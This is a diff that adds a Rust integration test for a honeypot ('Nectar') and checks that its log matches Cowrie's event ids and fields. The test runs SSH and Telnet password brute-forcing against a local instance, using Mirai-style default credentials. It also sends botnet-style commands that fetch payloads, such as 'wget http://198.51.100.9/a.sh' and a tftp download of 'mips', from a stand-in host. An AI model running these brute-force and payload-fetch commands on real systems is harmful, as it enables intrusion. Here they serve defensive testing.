@@ -90,3 +90,199 @@ fn telnet_sessions_reach_the_events_and_sessions_api() {
         .unwrap();
     assert_eq!(download["data"]["url"], "http://198.51.100.5/x.sh");
 }
+
+/// Cowrie 3.1's event ids (`cowrie.core.eventids`), the ones Nectar may write.
+const COWRIE_EVENT_IDS: &[&str] = &[
+    "cowrie.session.connect",
+    "cowrie.client.version",
+    "cowrie.client.kex",
+    "cowrie.client.fingerprint",
+    "cowrie.login.success",
+    "cowrie.login.failed",
+    "cowrie.command.input",
+    "cowrie.command.failed",
+    "cowrie.command.success",
+    "cowrie.session.file_download",
+    "cowrie.session.file_download.failed",
+    "cowrie.session.file_upload",
+    "cowrie.direct-tcpip.request",
+    "cowrie.log.closed",
+    "cowrie.session.closed",
+];
+
+/// The fields each event id carries besides the common ones (Cowrie 3.1.4 output).
+fn cowrie_fields(id: &str) -> &'static [&'static str] {
+    match id {
+        "cowrie.client.version" => &["version"],
+        "cowrie.client.kex" => &[
+            "hassh",
+            "hasshAlgorithms",
+            "kexAlgs",
+            "keyAlgs",
+            "encCS",
+            "macCS",
+            "compCS",
+            "langCS",
+        ],
+        "cowrie.login.success" | "cowrie.login.failed" => &["username", "password"],
+        "cowrie.client.fingerprint" => &["username", "fingerprint", "key", "type"],
+        "cowrie.command.input" | "cowrie.command.failed" | "cowrie.command.success" => &["input"],
+        "cowrie.session.file_download" => &["url", "outfile"],
+        "cowrie.session.file_upload" => &["filename", "outfile", "shasum"],
+        "cowrie.session.closed" => &["duration"],
+        _ => &[],
+    }
+}
+
+#[test]
+fn cowrie_log_of_brute_force_and_shells_has_cowrie_ids_and_fields() {
+    if !crate::capture::have("sshpass", &["-V"]) || !crate::capture::have("ssh", &["-V"]) {
+        return;
+    }
+    let dir = tempfile::tempdir().unwrap();
+    let data = dir.path().join("data");
+    let config = dir.path().join("nectar.toml");
+    std::fs::write(&config, "[honeypot.cowrie]\nenabled = true\n").unwrap();
+    let mut server = Server::start(&data, Some(&config));
+    let ssh = server.ssh_addr.clone().expect("SSH address");
+    let telnet_addr = server.telnet.expect("Telnet address");
+
+    // Brute force over SSH (OpenSSH, one connection per password) and Telnet.
+    for password in ["letmein", "password1", "qwerty"] {
+        let (host, port) = ssh.rsplit_once(':').unwrap();
+        let out = std::process::Command::new("timeout")
+            .args(["30", "sshpass", "-p", password, "ssh"])
+            .args([
+                "-o",
+                "StrictHostKeyChecking=no",
+                "-o",
+                "UserKnownHostsFile=/dev/null",
+            ])
+            .args(["-o", "LogLevel=ERROR", "-o", "PubkeyAuthentication=no"])
+            .args(["-o", "NumberOfPasswordPrompts=1", "-p", port])
+            .arg(format!("root@{host}"))
+            .arg("id")
+            .output()
+            .unwrap();
+        assert!(!out.status.success());
+    }
+    for password in ["vizxv", "xc3511"] {
+        let text = telnet(
+            telnet_addr,
+            format!("root\r\n{password}\r\n\x04").as_bytes(),
+        );
+        assert!(text.contains("Login incorrect"), "{text}");
+    }
+    // Interactive sessions: OpenSSH with a terminal, and Telnet.
+    let shell = crate::capture::openssh_shell(
+        &ssh,
+        "root",
+        "123456",
+        b"uname -a\nwget http://198.51.100.9/a.sh\nexit\n",
+    );
+    assert!(shell.contains("Linux"), "{shell}");
+    let text = telnet(
+        telnet_addr,
+        b"root\r\n123456\r\n/bin/busybox ECCHI\r\ntftp -g -r mips 198.51.100.9\r\nexit\r\n",
+    );
+    assert!(text.contains("ECCHI: applet not found"), "{text}");
+    assert!(server.sigterm().success());
+
+    let log = std::fs::read_to_string(data.join("cowrie.json")).unwrap();
+    let lines: Vec<Value> = log
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l}")))
+        .collect();
+    let is_hex12 = |s: &str| s.len() == 12 && s.bytes().all(|b| b.is_ascii_hexdigit());
+    let mut seen: std::collections::HashSet<(String, String)> = Default::default();
+    for l in &lines {
+        let id = l["eventid"].as_str().unwrap();
+        assert!(COWRIE_EVENT_IDS.contains(&id), "not a Cowrie eventid: {l}");
+        for key in [
+            "timestamp",
+            "session",
+            "protocol",
+            "src_ip",
+            "dst_ip",
+            "sensor",
+            "uuid",
+            "message",
+        ] {
+            assert!(l[key].is_string(), "{key} missing in {l}");
+        }
+        for key in ["src_port", "dst_port"] {
+            assert!(l[key].is_u64(), "{key} missing in {l}");
+        }
+        let ts = l["timestamp"].as_str().unwrap();
+        assert!(
+            ts.len() == 27 && ts.ends_with('Z') && &ts[10..11] == "T",
+            "{ts}"
+        );
+        assert!(is_hex12(l["session"].as_str().unwrap()), "{l}");
+        assert_eq!(l["src_ip"], "127.0.0.1");
+        for key in cowrie_fields(id) {
+            assert!(!l[*key].is_null(), "{id} without {key}: {l}");
+        }
+        seen.insert((l["protocol"].as_str().unwrap().to_owned(), id.to_owned()));
+    }
+    for (protocol, ids) in [
+        (
+            "ssh",
+            &[
+                "cowrie.session.connect",
+                "cowrie.client.version",
+                "cowrie.client.kex",
+                "cowrie.login.failed",
+                "cowrie.login.success",
+                "cowrie.command.input",
+                "cowrie.session.file_download",
+                "cowrie.session.closed",
+            ][..],
+        ),
+        (
+            "telnet",
+            &[
+                "cowrie.session.connect",
+                "cowrie.login.failed",
+                "cowrie.login.success",
+                "cowrie.command.input",
+                "cowrie.session.file_download",
+                "cowrie.session.closed",
+            ][..],
+        ),
+    ] {
+        for id in ids {
+            assert!(
+                seen.contains(&(protocol.to_owned(), (*id).to_owned())),
+                "no {id} for {protocol}: {log}"
+            );
+        }
+    }
+    let failed: Vec<&Value> = lines
+        .iter()
+        .filter(|l| l["eventid"] == "cowrie.login.failed")
+        .collect();
+    assert_eq!(failed.len(), 5, "{failed:?}");
+    assert!(failed.iter().any(|l| l["protocol"] == "telnet"
+        && l["username"] == "root"
+        && l["password"] == "xc3511"
+        && l["message"] == "login attempt [root/xc3511] failed"));
+    // Each session opens with connect and ends with closed.
+    let mut sessions: std::collections::HashMap<&str, Vec<&str>> = Default::default();
+    for l in &lines {
+        sessions
+            .entry(l["session"].as_str().unwrap())
+            .or_default()
+            .push(l["eventid"].as_str().unwrap());
+    }
+    assert_eq!(sessions.len(), 7, "{sessions:?}");
+    for ids in sessions.values() {
+        assert_eq!(ids.first(), Some(&"cowrie.session.connect"), "{ids:?}");
+        assert_eq!(ids.last(), Some(&"cowrie.session.closed"), "{ids:?}");
+    }
+    let download = lines
+        .iter()
+        .find(|l| l["protocol"] == "telnet" && l["eventid"] == "cowrie.session.file_download")
+        .unwrap();
+    assert_eq!(download["url"], "tftp://198.51.100.9/mips");
+}
